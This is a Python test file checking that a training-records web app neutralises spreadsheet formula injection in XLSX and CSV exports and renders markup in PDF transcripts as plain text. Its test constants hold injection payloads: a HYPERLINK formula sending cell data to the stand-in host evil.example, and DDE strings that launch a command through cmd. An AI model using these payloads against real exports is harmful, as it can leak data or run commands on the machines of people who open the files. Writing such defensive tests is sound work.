"""Issue 14, findings 6 and 7: what people type comes out of exports and PDFs as text.

A name or a title beginning `=`, `+`, `-`, `@`, tab or CR must not become a live formula in any
XLSX or CSV export; markup in a title must not be read as ReportLab markup in any PDF.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from app import spreadsheets
from app.accounts import operations as acc
from app.extensions import db
from app.ledger import operations as ledger_ops

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_no_formula(data: bytes, *expected_text: str) -> None:
    cells = _xlsx_cells(data)
    assert not [c.value for c in cells if c.data_type == "f"], "a user's text became a formula"
    values = {c.value for c in cells}
    for text in expected_text:
        assert text in values, text  # kept exactly as typed, as a string


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_csv_safe(text: str, *expected_text: str) -> None:
    cells = [c for row in _csv_rows(text) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not c.replace("-", "").replace(".", "").isdigit())]
    for typed in expected_text:
        assert "'" + typed in cells, typed


def test_the_one_place_neutralises_every_formula_prefix_but_not_numbers():
    for risky in ("=1+1", "+A1", "-a", "@x", "\tx", "\rx", "\nx"):
        assert spreadsheets.csv_value(risky) == "'" + risky
    for plain in ("Budi", "-2.50", "+62", "4", 3, None, Decimal("-1.5"), " =x", "a=b"):
        assert spreadsheets.csv_value(plain) == plain


def test_monitoring_exports_keep_names_and_positions_as_text(app, org, client, login):
    acc.update_user(org.learner_a1, name=FORMULA, position=PLUS)
    ledger_ops.record_manual(org.bpsdm_a, org.learner_a1, kind="seminar", title=AT, occurred_on=date(2026, 3, 1),
                             jp=Decimal(2))
    db.session.commit()
    login(org.admin)
    xlsx = client.get("/pemantauan/ekspor/pegawai.xlsx?year=2026")
    assert xlsx.status_code == 200
    _assert_no_formula(xlsx.data, FORMULA, PLUS)
    _assert_csv_safe(client.get("/pemantauan/ekspor/pegawai.csv?year=2026").get_data(as_text=True), FORMULA, PLUS)
    person = client.get(f"/pemantauan/pegawai/{org.learner_a1.id}/ekspor.xlsx?year=2026")
    _assert_no_formula(person.data, AT)
    person_csv = client.get(f"/pemantauan/pegawai/{org.learner_a1.id}/ekspor.csv?year=2026")
    _assert_csv_safe(person_csv.get_data(as_text=True), AT)


def test_siasn_csv_neutralises_titles_but_keeps_numbers(app, org, client, auth):
    entry = ledger_ops.record_manual(org.bpsdm_a, org.learner_a1, kind="seminar", title=MINUS,
                                     occurred_on=date(2026, 3, 1), jp=Decimal("2.5"), organiser=FORMULA)
    db.session.commit()
    resp = client.get(f"/api/v1/ledger/export.csv?unit={org.a.id}&year=2026", headers=auth(org.bpsdm_a))
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    row = next(r for r in rows if r["id_entri_lentera"] == str(entry.id))
    assert row["nama_diklat"] == "'" + MINUS and row["institusi_penyelenggara"] == "'" + FORMULA
    assert row["jumlah_jam"] == "2.50"


def test_temporary_password_sheet_and_course_spreadsheets(app, org, client, login):
    from app.accounts.models import User
    from tests.factories import enrol_all, make_course

    acc.update_user(org.learner_a1, name=FORMULA, position=AT)
    db.session.get(User, org.learner_a1.id).password_hash = None
    course = make_course(org.instructor, title="Arsip", activities=[{"type": "lesson", "title": PLUS}])
    enrol_all(course, org.learner_a1)
    db.session.commit()

    login(org.admin)
    sheet = client.post("/admin/pengguna/sandi-awal", data={"unit": org.a.id})
    assert sheet.status_code == 200
    _assert_csv_safe(sheet.get_data(as_text=True), FORMULA)
    report = client.get(f"/kursus/{course.id}/laporan-penyelesaian.xlsx")
    _assert_no_formula(report.data, FORMULA, PLUS + " *")
    participants = client.get(f"/kursus/{course.id}/peserta.xlsx")
    _assert_no_formula(participants.data, FORMULA, AT)


# --- finding 7: PDFs -------------------------------------------------------------------------------

def _pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_transcript_prints_markup_in_titles_as_text_even_after_reversal(app, org, client, login):
    hostile = ledger_ops.record_manual(org.bpsdm_a, org.learner_a1, kind="seminar", title='<img src="/etc/hostname">',
                                       occurred_on=date(2026, 3, 1), jp=Decimal(2), organiser="<b>Kominfo")
    ledger_ops.record_manual(org.bpsdm_a, org.learner_a1, kind="seminar", title="Workshop SPBE <Level 1> & Q&A",
                             occurred_on=date(2026, 3, 2), jp=Decimal(3))
    db.session.commit()
    ledger_ops.reverse_entry(org.bpsdm_a, hostile, "judul <salah> & rusak")
    acc.update_user(org.learner_a1, name="Budi <font size=90>Besar</font> & Co")
    db.session.commit()
    login(org.learner_a1)
    resp = client.get("/jp/transkrip/2026.pdf")
    assert resp.status_code == 200 and resp.mimetype == "application/pdf"
    printed = _pdf_text(resp.data)
    assert "Workshop SPBE <Level 1> & Q&A" in printed
    assert '<img src="/etc/hostname">' in printed and "<b>Kominfo" in printed
    assert "(judul <salah> & rusak)" in " ".join(printed.split())  # wrapped in the narrow column
    assert "Budi <font size=90>Besar</font> & Co" in printed
